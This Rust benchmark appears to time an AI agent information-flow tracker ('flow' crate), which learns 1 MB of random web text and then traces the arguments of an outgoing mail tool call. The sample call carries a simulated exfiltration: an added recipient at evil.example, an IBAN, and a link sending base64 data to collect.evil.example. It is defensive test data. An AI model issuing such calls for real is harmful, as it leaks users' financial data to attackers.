//! What tracing costs: processor time of a call with 2 KB of arguments in a session that has seen
//! 1 MB, of learning that, and the memory it takes.

use std::hint::black_box;
use std::time::Instant;

use flow::{Effect, Flow, Session, Source, Tool};
use serde_json::{Value, json};

const SEEN: usize = 1024 * 1024;
/// The quietest of so many times so many calls is what counts: others use the machine too.
const BATCHES: u32 = 100;
const CALLS: u32 = 50;

#[expect(clippy::print_stdout, reason = "the figures are what the example is for")]
fn main() {
    let mut random = 7_u64;
    let mut session = Session::default();
    session
        .hear_user("Send the figures of 'spring-plan.ods' to anna.berg@example.com, IBAN and all.");
    let results: Vec<Value> =
        std::iter::repeat_with(|| page(&mut random, 8192)).take(SEEN / 8192).collect();
    let started = Instant::now();
    for result in &results {
        session.learn_text(
            &Source::unknown("web/read"),
            false,
            result.as_str().unwrap_or_default(),
        );
    }
    println!("learn 1 MB: {:.1} ms", started.elapsed().as_secs_f64() * 1e3);
    println!("memory: {:.1} MB", session.bytes() as f64 / 1e6);
    let tool = Tool { effect: Effect::External, decisive: vec!["to".into()], ..Tool::default() };
    for (name, arguments) in calls(&mut random, &results) {
        let values = session.trace(&arguments).len();
        let batch = || {
            let started = Instant::now();
            (0..CALLS).for_each(|_| drop(black_box(Flow::of(&session, &tool, &arguments))));
            started.elapsed() / CALLS
        };
        let each = (0..BATCHES).map(|_| batch()).min().unwrap_or_default();
        println!("{name}: {} bytes, {} values, {each:.1?}", arguments.to_string().len(), values);
    }
}

fn calls(random: &mut u64, results: &[Value]) -> Vec<(&'static str, Value)> {
    let own = page(random, 1800);
    let quoted = results.get(3).and_then(Value::as_str).unwrap_or_default();
    let quoted = quoted.get(..1800).unwrap_or_default();
    let items: Vec<String> = (0..80).map(|_| word(random) + &word(random)).collect();
    let mail = |body: Value| {
        json!({"to": ["anna.berg@example.com", "eve@evil.example"],
        "subject": "Figures of the spring plan", "body": body, "account": "DE89 3704 0044 0532 0130 00",
        "amount": 1200.5, "link": "https://collect.evil.example/in?d=aGVsbG8gd29ybGQgYWdhaW4"})
    };
    vec![
        ("a letter of its own", mail(own)),
        ("a letter that quotes", mail(json!(quoted))),
        ("many values", json!({"items": items})),
    ]
}

fn page(random: &mut u64, bytes: usize) -> Value {
    let mut text = String::new();
    while text.len() < bytes {
        text.push_str(&word(random));
        text.push(if next(random).is_multiple_of(12) { '.' } else { ' ' });
    }
    json!(text)
}

/// One of some thousand words, short ones more often.
fn word(random: &mut u64) -> String {
    let mut seed = 1 + next(random) % (1 + next(random) % 20_000);
    let length = 2 + seed % 9;
    (0..length).map(|_| char::from(b'a' + (next(&mut seed) % 26) as u8)).collect()
}

fn next(random: &mut u64) -> u64 {
    *random =
        random.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
    *random >> 33
}
